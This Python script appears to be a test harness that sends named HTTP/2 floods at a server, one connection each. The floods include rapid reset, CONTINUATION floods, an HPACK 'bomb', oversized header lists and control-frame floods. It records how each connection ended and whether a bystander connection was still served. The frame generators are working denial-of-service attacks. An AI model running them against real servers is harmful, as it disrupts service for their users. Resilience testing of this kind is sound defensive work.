# Floods of HTTP/2 frames, each on a connection of its own, at the word of standard input: `NAME`. Prints how the connection ended, after how many
# seconds, how much was sent, and how another connection is served meanwhile and after it.
import json
import sys
import time


def get(stream, path="/"):
    return headers(stream, GET[:2] + ((":path", path),) + GET[3:])


def endless(unit):
    while True:
        yield unit


def streams(make, first=1):
    return (make(number) for number in range(first, 1 << 31, 2))


def opened(*frames):
    """On one stream that stays open."""
    yield headers(1, POST[:2] + ((":path", "/upload"),) + POST[3:], END_HEADERS)
    yield from endless(b"".join(frames))


def continuation(payload):
    yield frame(HEADERS, END_STREAM, 1, block(GET))
    yield from endless(frame(CONTINUATION, 0, 1, payload))


def bomb():
    """A large field is put into the table once, and said by one byte thousands of times."""
    table = b"\x40" + string(b"x") + string(bytes([120]) * 4000)
    yield frame(HEADERS, 5, 1, table + block(GET))
    for number in range(3, 1 << 20, 2):
        yield frame(HEADERS, 5, number, b"\xbe" * 8000 + block(GET))


def crumbs():
    """Ten thousand cookies in each request."""
    fields = block((("cookie", "a"),)) * 1000
    for number in range(1, 1 << 20, 2):
        yield frame(HEADERS, 1, number, block(GET)) + frame(CONTINUATION, 0, number, fields) * 10 + frame(CONTINUATION, 4, number)


def lists():
    """Header lists that are larger than what is allowed."""
    piece = block((("x", "y" * 8000),))
    for number in range(1, 1 << 20, 2):
        yield frame(HEADERS, 1, number, block(GET)) + frame(CONTINUATION, 0, number, piece) * 20 + frame(CONTINUATION, 4, number)


def reset(code):
    return lambda stream: headers(stream, POST, END_HEADERS) + code(stream)


FLOODS = {
    "rapid reset": lambda: streams(lambda stream: get(stream) + frame(RST, 0, stream, number(8))),
    "rapid reset, one by one": lambda: streams(lambda stream: get(stream) + frame(RST, 0, stream, number(8))),
    "reset of what is held": lambda: streams(lambda stream: get(stream, "/hold") + frame(RST, 0, stream, number(8))),
    "made to reset, by a window of nothing": lambda: streams(reset(lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0)))),
    "made to reset, by a window too large": lambda: streams(reset(lambda stream: frame(WINDOW_UPDATE, 0, stream, number((1 << 31) - 1)) * 2)),
    "made to reset, by priority": lambda: streams(reset(lambda stream: frame(PRIORITY, 0, stream, number(stream) + b"\0"))),
    "made to reset, by data after the end": lambda: streams(lambda stream: get(stream, "/hold") + frame(DATA, 0, stream, b"x")),
    "made to reset, by headers that are none": lambda: streams(lambda stream: headers(stream, GET + (("X", "y"),))),
    "empty CONTINUATION": lambda: continuation(b""),
    "CONTINUATION": lambda: continuation(block((("x", "y" * 1000),))),
    "empty DATA": lambda: opened(frame(DATA, 0, 1)),
    "DATA of nothing but padding": lambda: opened(frame(DATA, PADDED, 1, b"\x01\0")),
    "bomb of one field": bomb,
    "cookies": crumbs,
    "large lists": lists,
    "PING": lambda: endless(frame(PING, 0, 0, bytes(8))),
    "SETTINGS": lambda: endless(frame(SETTINGS, 0, 0, setting(4, 65535))),
    "empty SETTINGS": lambda: endless(frame(SETTINGS, 0, 0)),
    "PRIORITY": lambda: endless(frame(PRIORITY, 0, 1, number(3) + b"\0")),
    "WINDOW_UPDATE": lambda: endless(frame(WINDOW_UPDATE, 0, 0, number(1))),
    "WINDOW_UPDATE of a stream": lambda: opened(frame(WINDOW_UPDATE, 0, 1, number(1))),
    "unknown frames": lambda: endless(frame(0x77, 0, 0, bytes(8))),
    "more and more streams": lambda: streams(lambda stream: get(stream, "/hold")),
}


def ended(connection):
    """How it ended, if it has, by what has come so far."""
    code, over = None, False
    connection.socket.setblocking(False)
    try:
        while data := connection.socket.recv(65536):
            connection.buffer += data
        over = True
    except ssl.SSLWantReadError:
        pass
    except OSError:
        over = True
    finally:
        connection.socket.settimeout(60)
    while len(connection.buffer) >= 9 and len(connection.buffer) >= 9 + int.from_bytes(connection.buffer[:3], "big"):
        kind, _, _, payload = connection.next()
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big") or code
    return f"goaway {code}" if code else "closed" if over else None


def flood(frames, most, at_once):
    """Sends until the connection ends, or so much was sent."""
    connection = Connection(PREFACE + frame(SETTINGS, 0, 0, setting(4, 1 << 20)))
    begun, count, end = time.monotonic(), 0, None
    while end is None and count < most:
        piece = b"".join(next(frames) for _ in range(at_once))
        count += at_once
        try:
            connection.socket.sendall(piece)
            end = ended(connection)
        except OSError:
            end = ended(connection) or "closed"
    # The last of it may not have come to anybody yet.
    end = end or connection.outcome(ping=True)
    seconds = time.monotonic() - begun
    connection.close()
    return {"end": end, "seconds": seconds, "count": count}


bystander, number_of_requests = Connection(), 0


def served():
    global number_of_requests
    stream = 2 * number_of_requests + 1
    number_of_requests += 1
    bystander.send(get(stream))
    return bystander.outcome(stream)


print("ready", served(), flush=True)
for line in sys.stdin:
    name = line.strip()
    result = flood(FLOODS[name](), 20_000, 1 if name.endswith("one by one") else 200)
    print(json.dumps(result | {"bystander": served()}), flush=True)
